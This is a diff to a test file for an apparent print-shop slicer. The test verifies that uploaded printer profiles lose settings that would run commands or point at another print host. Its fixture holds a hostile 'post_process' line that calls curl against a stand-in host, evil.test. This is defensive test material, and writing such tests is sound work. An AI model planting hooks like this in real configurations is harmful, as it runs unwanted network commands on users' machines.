@@ -38,6 +38,8 @@ describe('the slicer of the shop', () => {
   test('loses what a profile would run, and the owner is told', async () => {
     const { removed } = addProfile(`${CONFIG}post_process = /usr/bin/curl evil.test\nprint_host = 10.0.0.9\n`)
     expect(removed.map(({ setting }) => setting)).toEqual(['post_process', 'print_host'])
-    expect(listProfiles(testShop.database, 'p1')[0].body).not.toMatch(/post_process|print_host/)
+    expect(listProfiles(testShop.database, { model: '', printer_id: 'p1' })[0].body).not.toMatch(
+      /post_process|print_host/,
+    )
   })
 })
